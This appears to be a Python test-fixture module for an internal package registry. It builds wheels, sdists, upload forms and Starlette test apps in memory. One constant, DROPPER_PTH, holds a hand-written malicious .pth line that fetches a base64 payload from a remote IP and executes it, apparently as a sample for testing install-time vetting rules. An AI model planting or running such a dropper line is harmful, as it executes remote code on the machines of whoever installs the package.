"""Wheels, sdists and upload forms for the internal-package tests, built in memory.

The malicious sample (:data:`DROPPER_PTH`) is written here by hand to trigger
the install-time rules; it is never installed, imported or run.
"""

from __future__ import annotations

import hashlib
import io
import tarfile
import zipfile
from collections.abc import Mapping, Sequence
from pathlib import Path

from starlette.applications import Starlette
from starlette.middleware import Middleware
from starlette.routing import BaseRoute

from assay.registry.config import RegistryConfig
from assay.registry.internal import InternalStore
from assay.registry.tokens import TokenStore
from assay.registry.uploads import UncachedVetter
from assay.server.registry_admin import admin_routes
from assay.server.registry_app import build_app
from assay.server.registry_auth import RegistryAuthMiddleware
from assay.server.registry_upload import upload_routes
from tests.registry.fakes import UPSTREAM, FakeUpstream

DROPPER_PTH = (
    "import urllib.request, base64; "
    "exec(base64.b64decode(urllib.request.urlopen('http://203.0.113.9/p').read()))\n"
)
_EPOCH = (2020, 1, 1, 0, 0, 0)


def metadata(name: str, version: str, requires_python: str | None = None) -> bytes:
    lines = ["Metadata-Version: 2.1", f"Name: {name}", f"Version: {version}", "Summary: internal"]
    if requires_python:
        lines.append(f"Requires-Python: {requires_python}")
    return ("\n".join(lines) + "\n\n").encode()


def wheel(
    name: str = "acme-tools",
    version: str = "1.0",
    *,
    extra: Mapping[str, str | bytes] | None = None,
    meta: bytes | None = None,
    requires_python: str | None = None,
) -> tuple[str, bytes]:
    """(file name, bytes) of a pure wheel; ``meta`` replaces the METADATA file."""
    stem = name.replace("-", "_").replace(".", "_").lower()
    info = f"{stem}-{version}.dist-info"
    files: dict[str, bytes] = {
        f"{stem}/__init__.py": f"__version__ = {version!r}\n".encode(),
        f"{info}/METADATA": meta or metadata(name, version, requires_python),
        f"{info}/WHEEL": b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n\n",
    }
    for path, content in (extra or {}).items():
        files[path] = content.encode() if isinstance(content, str) else content
    files[f"{info}/RECORD"] = "".join(f"{p},,\n" for p in [*files, f"{info}/RECORD"]).encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, content in files.items():
            archive.writestr(zipfile.ZipInfo(path, date_time=_EPOCH), content)
    return f"{stem}-{version}-py3-none-any.whl", out.getvalue()


def sdist(name: str = "acme-tools", version: str = "1.0") -> tuple[str, bytes]:
    stem = name.replace("-", "_").replace(".", "_").lower()
    base = f"{stem}-{version}"
    files = {
        f"{base}/PKG-INFO": metadata(name, version),
        f"{base}/pyproject.toml": b'[project]\nname = "x"\n',
    }
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for path, content in files.items():
            member = tarfile.TarInfo(path)
            member.size, member.mtime = len(content), 1577836800
            archive.addfile(member, io.BytesIO(content))
    return f"{base}.tar.gz", out.getvalue()


def fields(
    filename: str, content: bytes, name: str = "acme-tools", version: str = "1.0", **changes: str
) -> dict[str, str]:
    """The form twine sends for one file (``changes`` override or add fields)."""
    form = {
        ":action": "file_upload",
        "protocol_version": "1",
        "name": name,
        "version": version,
        "filetype": "bdist_wheel" if filename.endswith(".whl") else "sdist",
        "pyversion": "py3" if filename.endswith(".whl") else "source",
        "metadata_version": "2.1",
        "sha256_digest": hashlib.sha256(content).hexdigest(),
        "blake2_256_digest": hashlib.blake2b(content, digest_size=32).hexdigest(),
    }
    form.update(changes)
    return {key: value for key, value in form.items() if value != "<drop>"}


def app(
    directory: Path,
    *,
    anonymous_read: bool = True,
    max_bytes: int = 10 * 1024 * 1024,
    routes: Sequence[BaseRoute] = (),
    uploaded: list[str] | None = None,
) -> Starlette:
    """The upload and admin routes (plus ``routes``) behind the auth middleware."""
    tokens = TokenStore.in_directory(directory)
    store = InternalStore(directory)
    seen = uploaded if uploaded is not None else []
    return Starlette(
        routes=[
            *upload_routes(
                store, vetter=UncachedVetter(), on_upload=seen.append, max_bytes=max_bytes
            ),
            *admin_routes(tokens, store, status=lambda: {"cache": {"files": 0}}),
            *routes,
        ],
        middleware=[
            Middleware(RegistryAuthMiddleware, tokens=tokens, anonymous_read=anonymous_read)
        ],
    )


def registry(
    tmp_path: Path, upstream: FakeUpstream, *, anonymous_read: bool = True
) -> tuple[Starlette, TokenStore]:
    """The complete registry (``build_app``: indexes, uploads, admin, auth, real vetting with a
    private cache) over a fake upstream, and a token store on its state directory."""
    config = RegistryConfig(
        state_dir=tmp_path / "registry", upstream_urls=(UPSTREAM,), anonymous_read=anonymous_read
    )
    application, _ = build_app(config, upstream=upstream, vet_cache=tmp_path / "vet.sqlite3")
    return application, TokenStore.in_directory(config.state_dir)
